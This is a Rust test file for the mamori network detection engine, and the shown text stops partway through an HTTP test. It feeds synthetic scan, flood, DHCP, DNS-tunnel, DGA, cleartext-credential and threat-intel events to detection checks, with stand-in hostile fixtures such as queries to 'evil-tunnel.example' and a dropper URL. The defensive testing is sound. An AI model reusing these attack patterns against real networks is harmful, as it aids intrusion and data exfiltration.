#![allow(clippy::unwrap_used)] // tests: a panic is the failure report
//! One positive and one negative case per check, built with the test kit.

mod common;

use common::*;
use mamori_core::{AlertState, Severity};
use mamori_detect::CheckId;

#[test]
fn port_scan_of_1000_ports_fires_with_numbers() {
    let mut e = engine(NONE);
    let evs = (0..1000u16).map(|p| {
        flow("10.0.0.5", 40000, "10.0.0.9", 1 + p, "tcp")
            .state(if p % 50 == 49 { "reset" } else { "rejected" })
            .at(f64::from(p) * 0.018)
            .ev()
    });
    let alerts = run(&mut e, evs);
    let en = engaged(&alerts, "mamori.net.port_scan");
    assert_eq!(en.len(), 1);
    assert!(
        en[0]
            .message
            .starts_with("10.0.0.5 probed 25 TCP ports on 10.0.0.9"),
        "{}",
        en[0].message
    );
    let p = past(&alerts, "mamori.net.port_scan");
    assert_eq!(p.len(), 1);
    assert_eq!(
        p[0].message,
        "10.0.0.5 probed 1000 TCP ports on 10.0.0.9 in 17 s; 98 % got no answer or RST"
    );
    assert_eq!(p[0].count, 976);
    assert_eq!(p[0].techniques[0], "T1046");
    assert!(p[0].message_ja.as_deref().unwrap().contains("1000"));
    assert_eq!(e.check_counters(CheckId::PortScan).fired, 976);
}

#[test]
fn nine_connections_to_a_web_server_raise_nothing() {
    let mut e = engine(NONE);
    let evs = (0..9u16).map(|i| {
        flow(
            "10.0.0.5",
            40000 + i,
            "10.0.0.80",
            if i % 2 == 0 { 80 } else { 443 },
            "tcp",
        )
        .at(f64::from(i))
        .ev()
    });
    let alerts = run(&mut e, evs);
    assert!(alerts.is_empty(), "{:?}", rules(&alerts));
    assert!(e.check_counters(CheckId::PortScan).evaluated == 9);
}

#[test]
fn connect_scan_of_open_ports_needs_failures() {
    let mut e = engine(NONE);
    let evs = (0..40u16).map(|p| {
        flow("10.0.0.5", 40000, "10.0.0.9", 1000 + p, "tcp")
            .at(f64::from(p))
            .ev()
    });
    let alerts = run(&mut e, evs);
    assert!(engaged(&alerts, "mamori.net.port_scan").is_empty());
}

#[test]
fn host_sweep_fires_on_failures_only() {
    let mut e = engine(NONE);
    let evs = (0..30u8).map(|h| {
        flow("10.0.0.5", 40000, &format!("10.0.1.{h}"), 445, "tcp")
            .state("no_reply")
            .at(f64::from(h))
            .ev()
    });
    let alerts = run(&mut e, evs);
    let p = past(&alerts, "mamori.net.host_sweep");
    assert_eq!(p.len(), 1);
    assert_eq!(
        p[0].message,
        "10.0.0.5 tried TCP port 445 on 30 hosts in 29 s; 100 % failed"
    );
    assert_eq!(p[0].destination_port, Some(445));

    let mut e = engine(NONE);
    let evs = (0..30u8).map(|h| {
        flow("10.0.0.5", 40000, &format!("10.0.1.{h}"), 161, "udp")
            .at(f64::from(h))
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.host_sweep").is_empty());
}

#[test]
fn flag_scans_are_classified() {
    for (flags, kind, n) in [
        ("F", "FIN", 6u8),
        ("", "NULL", 6),
        ("FPU", "Xmas", 6),
        ("A", "ACK", 30),
        ("S", "SYN", 60),
    ] {
        let mut e = engine(NONE);
        let evs = (0..n).map(|i| {
            flow("10.0.0.5", 40000, &format!("10.0.2.{i}"), 80, "tcp")
                .state("no_reply")
                .flags(flags)
                .at(f64::from(i))
                .ev()
        });
        let alerts = run(&mut e, evs);
        let en = engaged(&alerts, "mamori.net.tcp_flag_scan");
        assert_eq!(en.len(), 1, "{kind}");
        assert!(
            en[0].message.contains(&format!("sent {kind} scan probes")),
            "{}",
            en[0].message
        );
    }
    let mut e = engine(NONE);
    let evs = (0..60u8).map(|i| {
        flow("10.0.0.5", 40000, &format!("10.0.2.{i}"), 80, "tcp")
            .flags("SAPF")
            .at(f64::from(i))
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.tcp_flag_scan").is_empty());
}

#[test]
fn udp_scan_from_port_unreachable() {
    let mut e = engine(NONE);
    let evs = (0..25u16).map(|p| {
        flow("10.0.0.5", 40000, "10.0.0.9", 100 + p, "udp")
            .bytes(60, 0)
            .pkts(1, 0)
            .set("mamori.flow.icmp_error", "port_unreachable")
            .at(f64::from(p))
            .ev()
    });
    let alerts = run(&mut e, evs);
    assert_eq!(engaged(&alerts, "mamori.net.udp_scan").len(), 1);
    let mut e = engine(NONE);
    let evs = (0..25u16).map(|p| {
        flow("10.0.0.5", 40000 + p, "10.0.0.53", 53, "udp")
            .at(f64::from(p))
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.udp_scan").is_empty());
}

#[test]
fn icmp_sweep_many_hosts_only() {
    let sweep = |n: u8| {
        let mut e = engine(NONE);
        let evs = (0..n).map(|h| {
            flow("10.0.0.5", 0, &format!("10.0.3.{h}"), 0, "icmp")
                .set("mamori.icmp.type", 8)
                .pkts(1, 1)
                .bytes(84, 84)
                .at(f64::from(h))
                .ev()
        });
        run(&mut e, evs)
    };
    let a = sweep(30);
    assert_eq!(engaged(&a, "mamori.net.icmp_sweep").len(), 1);
    assert!(past(&a, "mamori.net.icmp_sweep")[0]
        .message
        .contains("pinged 30 hosts"));
    assert!(engaged(&sweep(5), "mamori.net.icmp_sweep").is_empty());
}

#[test]
fn unanswered_scan_and_refused_burst() {
    let mut e = engine(NONE);
    let evs = (0..40u16).map(|i| {
        flow(
            "10.0.0.5",
            40000,
            &format!("10.0.4.{}", i % 20),
            22 + i,
            "tcp",
        )
        .state("no_reply")
        .at(f64::from(i))
        .ev()
    });
    assert_eq!(
        engaged(&run(&mut e, evs), "mamori.net.unanswered_scan").len(),
        1
    );

    let mut e = engine(NONE);
    let evs = (0..25u16).map(|i| {
        flow("10.0.0.5", 40000 + i, "10.0.0.9", 8080, "tcp")
            .state("rejected")
            .at(f64::from(i))
            .ev()
    });
    let a = run(&mut e, evs);
    assert_eq!(engaged(&a, "mamori.net.conn_refused_burst").len(), 1);
    assert!(past(&a, "mamori.net.conn_refused_burst")[0]
        .message
        .contains("had 25 TCP connections to 10.0.0.9 refused"));

    let mut e = engine(NONE);
    let evs = (0..5u16).map(|i| {
        flow("10.0.0.5", 40000 + i, "10.0.0.9", 8080, "tcp")
            .state("rejected")
            .at(f64::from(i))
            .ev()
    });
    let a = run(&mut e, evs);
    assert!(engaged(&a, "mamori.net.conn_refused_burst").is_empty());
    assert!(engaged(&a, "mamori.net.unanswered_scan").is_empty());
}

#[test]
fn syn_flood_victim_side() {
    let mut e = engine(NONE);
    let evs = (0..1200u32).map(|i| {
        flow(
            &format!("198.51.{}.{}", i / 250, i % 250),
            1024 + (i % 60000) as u16,
            "10.0.0.80",
            80,
            "tcp",
        )
        .state("half_open")
        .at(f64::from(i) * 0.004)
        .ev()
    });
    let a = run(&mut e, evs);
    let en = engaged(&a, "mamori.net.syn_flood");
    assert_eq!(en.len(), 1);
    assert_eq!(en[0].destination_ip, "10.0.0.80".parse().ok());
    assert!(
        en[0]
            .message
            .contains("received 1000 half-open TCP connections"),
        "{}",
        en[0].message
    );

    let mut e = engine(NONE);
    let evs = (0..100u32).map(|i| {
        flow(&format!("198.51.0.{i}"), 2000, "10.0.0.80", 80, "tcp")
            .state("half_open")
            .at(f64::from(i) * 0.01)
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.syn_flood").is_empty());
}

#[test]
fn flow_flood_and_icmp_flood() {
    let mut e = engine(NONE);
    let evs = (0..3000u32).map(|i| {
        flow(
            "10.0.0.5",
            1024 + (i % 60000) as u16,
            &format!("10.1.{}.{}", i / 250, i % 250),
            53,
            "udp",
        )
        .at(f64::from(i) * 0.003)
        .ev()
    });
    let a = run(&mut e, evs);
    let en = engaged(&a, "mamori.net.flow_flood");
    assert!(en.iter().any(|x| x.source_ip == "10.0.0.5".parse().ok()));
    let mut e = engine(NONE);
    let evs = (0..200u32).map(|i| {
        flow("10.0.0.5", 1024 + i as u16, "10.0.0.53", 53, "udp")
            .at(f64::from(i) * 0.04)
            .ev()
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.flow_flood").is_empty());

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [flow("203.0.113.9", 0, "10.0.0.80", 0, "icmp")
            .pkts(3000, 0)
            .bytes(3000 * 84, 0)
            .ev()],
    );
    assert_eq!(
        engaged(&a, "mamori.net.icmp_flood").len(),
        2,
        "attacker and victim"
    );
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [flow("203.0.113.9", 0, "10.0.0.80", 0, "icmp")
            .pkts(100, 100)
            .bytes(8400, 8400)
            .ev()],
    );
    assert!(engaged(&a, "mamori.net.icmp_flood").is_empty());
}

fn dhcp(mt: &str, mac: &str, server: &str, at: f64) -> mamori_core::Event {
    let (src, dst) = if matches!(mt, "OFFER" | "ACK" | "NAK") {
        (server, "255.255.255.255")
    } else {
        ("0.0.0.0", "255.255.255.255")
    };
    rec("dhcp", src, dst, 68)
        .set("mamori.dhcp.message_type", mt)
        .set("mamori.dhcp.client_mac", mac)
        .at(at)
        .ev()
}

#[test]
fn dhcp_storm_starvation_and_rogue_servers() {
    let mut e = engine(NONE);
    let evs = (0..310u32).map(|i| {
        dhcp(
            "DISCOVER",
            &format!("02:00:00:00:{:02x}:{:02x}", i / 256, i % 256),
            "",
            f64::from(i) * 0.1,
        )
    });
    let a = run(&mut e, evs);
    assert_eq!(engaged(&a, "mamori.net.dhcp_storm").len(), 1);
    assert_eq!(engaged(&a, "mamori.net.dhcp_starvation").len(), 1);
    assert!(past(&a, "mamori.net.dhcp_starvation")[0]
        .message
        .starts_with("310 distinct client MAC"));

    let mut e = engine(NONE);
    let evs = (0..40u32).map(|i| {
        dhcp(
            "REQUEST",
            &format!("02:00:00:00:00:{:02x}", i % 4),
            "",
            f64::from(i),
        )
    });
    let a = run(&mut e, evs);
    assert!(engaged(&a, "mamori.net.dhcp_storm").is_empty());
    assert!(engaged(&a, "mamori.net.dhcp_starvation").is_empty());

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            dhcp("OFFER", "02:00:00:00:00:01", "10.0.0.1", 0.0),
            dhcp("ACK", "02:00:00:00:00:01", "10.0.0.1", 1.0),
        ],
    );
    assert!(engaged(&a, "mamori.net.dhcp_rogue_server").is_empty());
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            dhcp("OFFER", "02:00:00:00:00:01", "10.0.0.1", 0.0),
            dhcp("OFFER", "02:00:00:00:00:01", "10.0.0.66", 1.0),
        ],
    );
    let en = engaged(&a, "mamori.net.dhcp_rogue_server");
    assert_eq!(en.len(), 1);
    assert_eq!(en[0].source_ip, "10.0.0.66".parse().ok());

    let mut e = engine("allowed_dhcp_servers = [\"10.0.0.1\"]\n");
    let a = run(
        &mut e,
        [
            dhcp("OFFER", "m", "10.0.0.1", 0.0),
            dhcp("OFFER", "m", "10.0.0.66", 1.0),
        ],
    );
    let en = engaged(&a, "mamori.net.unexpected_dhcp_server");
    assert_eq!(en.len(), 1);
    assert_eq!(en[0].source_ip, "10.0.0.66".parse().ok());
    assert!(engaged(&a, "mamori.net.dhcp_rogue_server").is_empty());
}

fn dns(src: &str, name: &str, qtype: &str, rcode: &str, at: f64) -> mamori_core::Event {
    rec("dns", src, "10.0.0.53", 53)
        .set("network.transport", "udp")
        .set("dns.question.name", name.to_owned())
        .set("dns.question.type", qtype.to_owned())
        .set("dns.response_code", rcode.to_owned())
        .at(at)
        .ev()
}

#[test]
fn dns_tunnel_unique_subdomains() {
    let mut e = engine(NONE);
    let evs = (0..120u32).map(|i| {
        dns(
            "10.0.0.7",
            &format!("a{i:x}b.t.evil-tunnel.example"),
            "A",
            "NOERROR",
            f64::from(i),
        )
    });
    let a = run(&mut e, evs);
    let p = past(&a, "mamori.net.dns_tunnel");
    assert_eq!(p.len(), 1);
    assert!(
        p[0].message
            .contains("queried 120 unique names under evil-tunnel.example"),
        "{}",
        p[0].message
    );

    let mut e = engine(NONE);
    let evs = (0..120u32).map(|i| dns("10.0.0.7", "www.example.com", "A", "NOERROR", f64::from(i)));
    assert!(engaged(&run(&mut e, evs), "mamori.net.dns_tunnel").is_empty());
    let mut e = engine(NONE);
    let evs = (0..120u32).map(|i| {
        dns(
            "10.0.0.7",
            &format!("{}.0.0.10.in-addr.arpa", i % 250),
            "PTR",
            "NOERROR",
            f64::from(i),
        )
    });
    assert!(engaged(&run(&mut e, evs), "mamori.net.dns_tunnel").is_empty());
}

#[test]
fn dns_tunnel_long_labels() {
    let mut e = engine("[checks.dns_tunnel]\nthresholds = { min_unique_subdomains = 10000 }\n");
    let evs = (0..25u32).map(|i| {
        dns(
            "10.0.0.7",
            &format!("mzxw6ytboi{i:04}nbswy3dpeb3w64tmmqqhg2lhnfzxa5i.x.example"),
            "A",
            "NOERROR",
            f64::from(i),
        )
    });
    assert_eq!(engaged(&run(&mut e, evs), "mamori.net.dns_tunnel").len(), 1);
}

#[test]
fn dns_txt_volume_nxdomain_and_types() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..110u32).map(|i| {
            dns(
                "10.0.0.7",
                &format!("q{i}.example.org"),
                "TXT",
                "NOERROR",
                f64::from(i),
            )
        }),
    );
    assert_eq!(engaged(&a, "mamori.net.dns_txt_volume").len(), 1);
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..10u32).map(|i| dns("10.0.0.7", "example.org", "TXT", "NOERROR", f64::from(i))),
    );
    assert!(engaged(&a, "mamori.net.dns_txt_volume").is_empty());

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..60u32).map(|i| {
            dns(
                "10.0.0.7",
                &format!("host{i}.corp.example"),
                "A",
                "NXDOMAIN",
                f64::from(i) * 0.5,
            )
        }),
    );
    assert_eq!(engaged(&a, "mamori.net.nxdomain_flood").len(), 1);
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        (0..10u32).map(|i| dns("10.0.0.7", "typo.example", "A", "NXDOMAIN", f64::from(i))),
    );
    assert!(engaged(&a, "mamori.net.nxdomain_flood").is_empty());

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            dns("10.0.0.7", "example.jp", "AXFR", "NOERROR", 0.0),
            dns("10.0.0.7", "example.jp", "A", "NOERROR", 1.0),
        ],
    );
    let en = engaged(&a, "mamori.net.dns_suspicious_type");
    assert_eq!(en.len(), 1);
    assert!(en[0].message.contains("AXFR"));
}

#[test]
fn dga_names_fire_but_real_names_do_not() {
    let dga = [
        "xjw9qkz7vbn4plmt.com",
        "qwrtzpl8kx3vbn2m.net",
        "zkxq7vbnmpl4rt9w.org",
        "mnbvcx9zlkj4hgf2.info",
        "ptkrzx8wqvn3bml7.biz",
        "trwqzx4pkl9mnb3v.ru",
    ];
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        dga.iter()
            .enumerate()
            .map(|(i, n)| dns("10.0.0.8", n, "A", "NXDOMAIN", i as f64)),
    );
    let en = engaged(&a, "mamori.net.dga_domain");
    assert_eq!(en.len(), 1);
    assert!(
        en[0].message.contains("looked up 5 DGA-like domains"),
        "{}",
        en[0].message
    );

    let real = [
        "www.google.com",
        "outlook.office365.com",
        "www.microsoft.com",
        "ja.wikipedia.org",
        "www.yahoo.co.jp",
        "update.googleapis.com",
        "www.mod.go.jp",
        "cdn.jsdelivr.net",
    ];
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        real.iter()
            .enumerate()
            .map(|(i, n)| dns("10.0.0.8", n, "A", "NOERROR", i as f64)),
    );
    assert!(engaged(&a, "mamori.net.dga_domain").is_empty());
}

#[test]
fn dns_large_response() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [flow("10.0.0.7", 5000, "10.0.0.53", 53, "udp")
            .proto("dns")
            .bytes(80, 1400)
            .pkts(1, 1)
            .ev()],
    );
    assert_eq!(engaged(&a, "mamori.net.dns_large_response").len(), 1);
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [flow("10.0.0.7", 5000, "10.0.0.53", 53, "udp")
            .proto("dns")
            .bytes(80, 160)
            .pkts(1, 1)
            .ev()],
    );
    assert!(engaged(&a, "mamori.net.dns_large_response").is_empty());
}

#[test]
fn unexpected_servers_against_allowed_lists() {
    let cfg = "allowed_dns_servers = [\"10.0.0.53\"]\nallowed_ntp_servers = [\"10.0.0.123\"]\nallowed_smtp_servers = [\"10.0.0.25\"]\n";
    let mut e = engine(cfg);
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 5000, "8.8.8.8", 53, "udp")
                .proto("dns")
                .ev(),
            flow("10.0.0.7", 5001, "10.0.0.53", 53, "udp")
                .proto("dns")
                .ev(),
            flow("10.0.0.53", 5002, "198.51.100.1", 53, "udp")
                .proto("dns")
                .ev(),
            flow("10.0.0.7", 123, "203.0.113.123", 123, "udp")
                .proto("ntp")
                .ev(),
            flow("10.0.0.7", 5003, "203.0.113.25", 25, "tcp")
                .proto("smtp")
                .ev(),
            flow("10.0.0.7", 5004, "10.0.0.25", 25, "tcp")
                .proto("smtp")
                .ev(),
        ],
    );
    let d = engaged(&a, "mamori.net.unexpected_dns_server");
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].destination_ip, "8.8.8.8".parse().ok());
    assert_eq!(engaged(&a, "mamori.net.unexpected_ntp_server").len(), 1);
    assert_eq!(engaged(&a, "mamori.net.unexpected_smtp_server").len(), 1);
    // Without lists the checks stay quiet.
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [flow("10.0.0.7", 5000, "8.8.8.8", 53, "udp")
            .proto("dns")
            .ev()],
    );
    assert!(engaged(&a, "mamori.net.unexpected_dns_server").is_empty());
}

#[test]
fn insecure_protocols() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("203.0.113.5", 40000, "10.0.0.23", 23, "tcp").ev(),
            flow("10.0.0.7", 40001, "10.0.0.21", 21, "tcp")
                .proto("ftp")
                .ev(),
            flow("10.0.0.7", 40002, "10.0.0.22", 514, "tcp").ev(),
            rec("smb", "10.0.0.7", "10.0.0.45", 445)
                .set("mamori.smb.version", 1)
                .set("mamori.smb.dialect", "NT LM 0.12")
                .ev(),
            rec("snmp", "10.0.0.7", "10.0.0.161", 161)
                .set("mamori.snmp.version", "2c")
                .set("mamori.snmp.community", "public")
                .ev(),
        ],
    );
    let en = engaged(&a, "mamori.net.insecure_protocol");
    assert_eq!(
        en.len(),
        5,
        "{:?}",
        en.iter().map(|x| &x.message).collect::<Vec<_>>()
    );
    let telnet = en.iter().find(|x| x.message.contains("Telnet")).unwrap();
    assert_eq!(telnet.severity, Severity::High);
    assert!(telnet.message.contains("from outside"));
    let ftp = en.iter().find(|x| x.message.contains("FTP")).unwrap();
    assert_eq!(ftp.severity, Severity::Medium);
    assert!(en
        .iter()
        .any(|x| x.message.contains("community \"public\"")));

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("203.0.113.5", 40000, "10.0.0.23", 23, "tcp")
                .state("rejected")
                .ev(),
            rec("smb", "10.0.0.7", "10.0.0.45", 445)
                .set("mamori.smb.version", 3)
                .set("mamori.smb.dialect", "3.1.1")
                .ev(),
            rec("snmp", "10.0.0.7", "10.0.0.161", 161)
                .set("mamori.snmp.version", "3")
                .ev(),
            flow("10.0.0.7", 40003, "10.0.0.80", 443, "tcp")
                .proto("tls")
                .ev(),
        ],
    );
    assert!(engaged(&a, "mamori.net.insecure_protocol").is_empty());
}

#[test]
fn cleartext_credentials() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            rec("ftp", "10.0.0.7", "10.0.0.21", 21)
                .set("user.name", "taro")
                .ev(),
            rec("http", "10.0.0.7", "10.0.0.80", 80)
                .set("http.request.method", "GET")
                .set("url.original", "/")
                .set("url.domain", "intra.example")
                .set("user_agent.original", "Mozilla/5.0")
                .set("mamori.http.authorization_scheme", "Basic")
                .set("user.name", "hanako")
                .ev(),
            rec("smtp", "10.0.0.7", "10.0.0.25", 25)
                .set("mamori.mail.cleartext_auth", true)
                .set("mamori.mail.auth_mechanism", "PLAIN")
                .set("user.name", "jiro")
                .ev(),
            rec("pop3", "10.0.0.7", "10.0.0.110", 110)
                .set("mamori.mail.cleartext_auth", true)
                .set("user.name", "saburo")
                .ev(),
            rec("ldap", "10.0.0.7", "10.0.0.89", 389)
                .set("mamori.ldap.bind_type", "simple")
                .set("mamori.ldap.bind_dn", "cn=admin,dc=example,dc=jp")
                .ev(),
        ],
    );
    let en = engaged(&a, "mamori.net.cleartext_credentials");
    assert_eq!(en.len(), 5);
    let http = en
        .iter()
        .find(|x| x.message.contains("HTTP Basic"))
        .unwrap();
    assert_eq!(http.user_name.as_deref(), Some("hanako"));
    assert!(en.iter().any(|x| x
        .message
        .contains("SMTP AUTH PLAIN credentials for \"jiro\"")));

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            rec("smtp", "10.0.0.7", "10.0.0.25", 587)
                .set("mamori.mail.auth_mechanism", "CRAM-MD5")
                .set("user.name", "jiro")
                .ev(),
            rec("http", "10.0.0.7", "10.0.0.80", 80)
                .set("http.request.method", "GET")
                .set("url.original", "/")
                .set("url.domain", "intra.example")
                .set("user_agent.original", "Mozilla/5.0")
                .set("mamori.http.authorization_scheme", "Bearer")
                .ev(),
            rec("ldap", "10.0.0.7", "10.0.0.89", 389)
                .set("mamori.ldap.bind_type", "sasl")
                .ev(),
        ],
    );
    assert!(engaged(&a, "mamori.net.cleartext_credentials").is_empty());
}

#[test]
fn remote_access_from_outside() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("203.0.113.5", 40000, "10.0.0.33", 3389, "tcp")
                .proto("rdp")
                .ev(),
            flow("10.0.0.7", 40001, "198.51.100.70", 7070, "tcp").ev(),
            rec("tls", "10.0.0.8", "198.51.100.71", 443)
                .set("tls.client.server_name", "relay-1.net.anydesk.com")
                .ev(),
            flow("203.0.113.6", 40002, "10.0.0.34", 5901, "tcp").ev(),
        ],
    );
    let en = engaged(&a, "mamori.net.remote_access");
    assert_eq!(
        en.len(),
        4,
        "{:?}",
        en.iter().map(|x| &x.message).collect::<Vec<_>>()
    );
    assert!(en
        .iter()
        .any(|x| x.message == "203.0.113.5 from outside opened a RDP session to 10.0.0.33:3389"));

    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 40000, "10.0.0.33", 3389, "tcp")
                .proto("rdp")
                .ev(),
            flow("203.0.113.5", 40000, "10.0.0.33", 3389, "tcp")
                .state("rejected")
                .ev(),
        ],
    );
    assert!(engaged(&a, "mamori.net.remote_access").is_empty());
}

#[test]
fn intel_ip_both_directions_and_ports() {
    let lists = [
        ("feodo", "198.51.100.66\n203.0.113.0/24\n192.0.2.10:8443\n"),
        ("tor-exits", "192.0.2.99\n"),
    ];
    let mut e = engine_intel(NONE, &lists);
    let a = run(
        &mut e,
        [
            flow("10.0.0.7", 40000, "198.51.100.66", 443, "tcp").ev(),
            flow("203.0.113.40", 40000, "10.0.0.80", 80, "tcp").ev(),
            flow("10.0.0.7", 40000, "192.0.2.10", 8443, "tcp").ev(),
            flow("10.0.0.7", 40000, "192.0.2.10", 443, "tcp").ev(),
            flow("10.0.0.9", 40000, "192.0.2.99", 9001, "tcp").ev(),
        ],
    );
    let en = engaged(&a, "mamori.intel.ip");
    assert_eq!(
        en.len(),
        4,
        "{:?}",
        en.iter().map(|x| &x.message).collect::<Vec<_>>()
    );
    assert_eq!(
        en[0].message,
        "10.0.0.7 contacted 198.51.100.66:443, listed as 198.51.100.66 in feodo"
    );
    assert_eq!(
        en[1].message,
        "203.0.113.40, listed as 203.0.113.0/24 in feodo, contacted 10.0.0.80:80"
    );
    assert!(en[2].message.contains("192.0.2.10:8443"));
    assert_eq!(en[0].ruleset, mamori_core::Ruleset::Intel);
    assert_eq!(engaged(&a, "mamori.net.tor").len(), 1);

    let mut e = engine_intel(NONE, &lists);
    let a = run(
        &mut e,
        [flow("10.0.0.7", 40000, "198.51.100.67", 443, "tcp").ev()],
    );
    assert!(a.is_empty());
}

#[test]
fn intel_domain_url_fingerprint_and_cert() {
    let lists = [(
        "mixed",
        "evil.example\nhttp://bad.example/dropper/payload.bin\nbad2.example/gate.php\ne7d705a3286e19ea42f587b344ee6865\nt13d1516h2_8daaf6152771_02713d6af862\nAB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01\n",
    )];
    let mut e = engine_intel(NONE, &lists);
    let a = run(
        &mut e,
        [
            dns("10.0.0.7", "cdn.evil.example", "A", "NOERROR", 0.0),
            dns("10.0.0.7", "notevil.example", "A", "NOERROR", 1.0),
            rec("http", "10.0.0.7", "198.51.100.5", 80)
                .set("http.request.method", "GET")
                .set("url.domain", "bad.example")
                .set("url.original", "/dropper/payload.bin?x=1")
                .set("user_agent.original", "Mozilla/5.0")
                .ev(),
            rec("http", "10.0.0.7", "198.51.100.6", 80)
                .set("http.request.method", "POST")
                .set("url.domain", "BAD2.example")
                .set("url.original", "/gate.php")
                .set("user_agent.original", "Mozilla/5.0")
                .ev(),
            rec("tls", "10.0.0.7", "198.51.100.7", 443)
                .set("tls.client.server_name", "ok.example")
                .set("tls.client.ja3", "E7D705A3286E19EA42F587B344EE6865")
                .ev(),
            rec("tls", "10.0.0.8", "198.51.100.8", 443)
                .set("tls.client.server_name", "ok2.example")
                .set("tls.client.ja4", "t13d1516h2_8daaf6152771_02713d6af862")
                .ev(),
            rec("tls", "10.0.0.9", "198.51.100.9", 443)
                .set("tls.client.server_name", "ok3.example")
                .set(
                    "tls.server.hash.sha1",
                    "abcdef0123456789abcdef0123456789abcdef01",
                )
                .ev(),
        ],
    );
    let d = engaged(&a, "mamori.intel.domain");
    assert_eq!(d.len(), 1);
    assert!(d[0]
        .message
        .contains("cdn.evil.example, listed as evil.example"));
    assert_eq!(engaged(&a, "mamori.intel.url").len(), 2);
    assert_eq!(engaged(&a, "mamori.intel.tls_fingerprint").len(), 2);
    let c = engaged(&a, "mamori.intel.certificate");
    assert_eq!(c.len(), 1);
    assert!(c[0]
        .message
        .contains("ABCDEF0123456789ABCDEF0123456789ABCDEF01"));
}

fn tls(src: &str, dst: &str) -> R {
    rec("tls", src, dst, 443)
        .set("tls.client.ja3", "00000000000000000000000000000000")
        .set("tls.version", "1.3")
        .set("tls.cipher", "TLS_AES_128_GCM_SHA256")
        .at(100.0)
}

#[test]
fn tls_version_cipher_and_certificates() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            tls("10.0.0.7", "10.0.0.80")
                .set("tls.client.server_name", "old.example")
                .set("tls.version", "1.0")
                .ev(),
            tls("10.0.0.7", "10.0.0.81")
                .set("tls.client.server_name", "rc4.example")
                .set("tls.cipher", "TLS_RSA_WITH_RC4_128_SHA")
                .ev(),
            tls("10.0.0.7", "10.0.0.82")
                .set("tls.client.server_name", "self.example")
                .set("mamori.tls.self_signed", true)
                .set("tls.server.x509.subject.common_name", "self.example")
                .ev(),
            tls("10.0.0.7", "10.0.0.83")
                .set("tls.client.server_name", "exp.example")
                .set("tls.server.x509.subject.common_name", "exp.example")
                .set("tls.server.x509.not_after", ts(-86_400.0))
                .ev(),
            tls("10.0.0.7", "10.0.0.84")
                .set("tls.client.server_name", "soon.example")
                .set("tls.server.x509.subject.common_name", "soon.example")
                .set("tls.server.x509.not_after", ts(100.0 + 10.0 * 86_400.0))
                .ev(),
            tls("10.0.0.7", "10.0.0.85")
                .set("tls.client.server_name", "www.bank.example")
                .set("tls.server.x509.subject.common_name", "*.other.example")
                .set("tls.server.x509.alternative_names", vec!["other.example"])
                .ev(),
            tls("10.0.0.7", "10.0.0.86").ev(),
            tls("10.0.0.7", "10.0.0.87")
                .set("tls.client.server_name", "10.0.0.87")
                .ev(),
            tls("10.0.0.7", "10.0.0.88")
                .set("tls.client.server_name", "alpn.example")
                .set("mamori.tls.alpn", vec!["h2", "x-c2-proto"])
                .ev(),
        ],
    );
    for id in [
        "mamori.net.tls_old_version",
        "mamori.net.tls_weak_cipher",
        "mamori.net.tls_self_signed",
        "mamori.net.tls_cert_expired",
        "mamori.net.tls_cert_expiring",
        "mamori.net.tls_cert_mismatch",
        "mamori.net.tls_missing_sni",
        "mamori.net.tls_numeric_sni",
        "mamori.net.tls_uncommon_alpn",
    ] {
        assert_eq!(engaged(&a, id).len(), 1, "{id}: {:?}", rules(&a));
    }
    assert!(engaged(&a, "mamori.net.tls_cert_expiring")[0]
        .message
        .contains("expires in 10 days"));
    assert!(engaged(&a, "mamori.net.tls_cert_expired")[0]
        .message
        .contains("expired on 2023-11-13"));

    // A healthy session raises nothing.
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [tls("10.0.0.7", "10.0.0.80")
            .set("tls.client.server_name", "www.good.example")
            .set("tls.server.x509.subject.common_name", "good.example")
            .set(
                "tls.server.x509.alternative_names",
                vec!["good.example", "*.good.example"],
            )
            .set("tls.server.x509.not_before", ts(-86_400.0))
            .set("tls.server.x509.not_after", ts(200.0 * 86_400.0))
            .set("mamori.tls.alpn", vec!["h2", "http/1.1"])
            .ev()],
    );
    assert!(a.is_empty(), "{:?}", rules(&a));
}

fn http(src: &str, dst: &str, host: &str, url: &str, ua: &str) -> R {
    rec("http", src, dst, 80)
        .set("http.request.method", "GET")
        .set("http.version", "1.1")
        .set("url.domain", host.to_owned())
        .set("url.original", url.to_owned())
        .set("user_agent.original", ua.to_owned())
        .set("http.response.status_code", 200)
}

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";

#[test]
fn http_checks_fire() {
    let mut e = engine(NONE);
    let a = run(
        &mut e,
        [
            http("10.0.0.7", "198.51.100.5", "dl.example", "/x", "curl/8.4.0").ev(),
            http("10.0.0.7", "198.51.100.5", "dl.example", "/update", BROWSER)
                .set("mamori.http.magic", "pe")
                .set("http.response.mime_type", "application/octet-stream")
                .ev(),
            http(
